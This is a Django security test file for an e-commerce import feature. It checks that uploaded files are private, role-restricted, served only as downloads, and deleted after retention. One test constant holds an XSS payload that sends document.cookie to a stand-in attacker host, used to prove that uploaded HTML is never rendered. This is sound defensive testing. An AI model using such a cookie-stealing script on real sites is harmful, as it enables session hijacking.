"""Import files are private: never under the public media root, served only as a
download to staff allowed to run that kind of import, and deleted after the
retention period."""

from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from accounts.staff_policy import staff_role_assign
from commerce.imports.models import ImportJob
from tests import factories
from tests.security.test_upload_limits import fresh_media  # noqa: F401

pytestmark = pytest.mark.django_db

CONTRACT = b"sku,unit_price\nP-1,12.50\n"
EVIL = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script>"


def client_for(user=None) -> Client:
    client = Client(HTTP_HOST=settings.STOREFRONT_HOST)
    if user is not None:
        client.force_login(user)
    return client


def staff(role=None, **kwargs):
    user = factories.UserFactory(is_staff=True, **kwargs)
    if role:
        staff_role_assign(user=user, role_key=role)
    return user


@pytest.fixture
def price_list_job(committed):
    factories.ProductFactory(upc="P-1", stock=False)
    price_list = factories.PriceListFactory(name="Acme contract")
    manager = staff("catalog_manager")
    with committed():
        response = client_for(manager).post(
            f"/dashboard/pricing/lists/{price_list.pk}/import/",
            {
                "file": SimpleUploadedFile("acme-contract-2026.csv", CONTRACT, "text/csv"),
                "mode": "replace",
            },
        )
    assert response.status_code == 302
    return ImportJob.objects.get(filename="acme-contract-2026.csv")


@pytest.fixture
def evil_job(committed):
    with committed():
        response = client_for(staff("catalog_manager")).post(
            "/dashboard/catalogue/products/import/",
            {"file": SimpleUploadedFile("evil.html", EVIL, "text/html")},
        )
    assert response.status_code == 302
    return ImportJob.objects.get(filename="evil.html")


def test_an_uploaded_contract_is_not_under_the_public_media_root(price_list_job):
    public = Path(settings.MEDIA_ROOT)
    today = timezone.now()

    anonymous = client_for().get(f"/media/imports/{today:%Y}/{today:%m}/acme-contract-2026.csv")
    by_name = client_for().get(f"/media/{price_list_job.file.name}")

    assert anonymous.status_code == 404
    assert by_name.status_code == 404
    assert not [p for p in public.rglob("*") if p.is_file() and "imports" in p.parts]
    assert Path(price_list_job.file.path).is_relative_to(Path(settings.PRIVATE_MEDIA_ROOT))
    assert "acme-contract" not in price_list_job.file.name  # random stored name
    with pytest.raises(ValueError):
        price_list_job.file.url  # noqa: B018 - no public URL exists


def test_an_uploaded_html_file_is_only_ever_a_download(evil_job):
    response = client_for(staff("catalog_manager")).get(f"/dashboard/imports/{evil_job.pk}/file/")

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == EVIL
    assert "html" not in response["Content-Type"]
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_only_staff_of_that_import_kind_may_download_the_file(price_list_job):
    url = f"/dashboard/imports/{price_list_job.pk}/file/"
    # Sees the imports section but not pricing: the contract is not theirs to read.
    catalogue_only = staff()
    catalogue_only.user_permissions.add(
        *Permission.objects.filter(
            codename__in=["access_imports_dashboard", "access_catalogue_dashboard"]
        )
    )

    anonymous = client_for().get(url)
    customer = client_for(factories.UserFactory()).get(url)
    rep = client_for(staff("sales_rep")).get(url)
    other_section = client_for(catalogue_only).get(url)
    manager = client_for(staff("catalog_manager")).get(url)

    assert anonymous.status_code in (302, 404) and not getattr(anonymous, "streaming", False)
    assert customer.status_code in (302, 403, 404) and not getattr(customer, "streaming", False)
    assert rep.status_code in (403, 404)
    assert other_section.status_code == 404
    assert manager.status_code == 200
    assert b"".join(manager.streaming_content) == CONTRACT


def test_files_past_the_retention_period_are_deleted(price_list_job, evil_job, settings, committed):
    settings.IMPORT_FILE_RETENTION_DAYS = 30
    ImportJob.objects.filter(pk=price_list_job.pk).update(
        created_at=timezone.now() - timedelta(days=31)
    )
    old_path = Path(price_list_job.file.path)
    status = price_list_job.status
    recent_path = Path(evil_job.file.path)

    call_command("purge_import_files")

    price_list_job.refresh_from_db()
    evil_job.refresh_from_db()
    assert not old_path.exists() and not price_list_job.file
    assert recent_path.exists() and evil_job.file
    assert price_list_job.status == status == "ready"  # the job and its results stay
    response = client_for(staff("catalog_manager")).get(
        f"/dashboard/imports/{price_list_job.pk}/file/"
    )
    assert response.status_code == 404
    with committed():
        client_for(staff("catalog_manager")).post(f"/dashboard/imports/{price_list_job.pk}/apply/")
    price_list_job.refresh_from_db()
    assert price_list_job.status == "failed"  # not stuck "applying"
    assert "no longer kept" in price_list_job.errors[0]["message"]
    schedule = settings.CELERY_BEAT_SCHEDULE.values()
    assert "commerce.imports.tasks.purge_import_files" in {e["task"] for e in schedule}
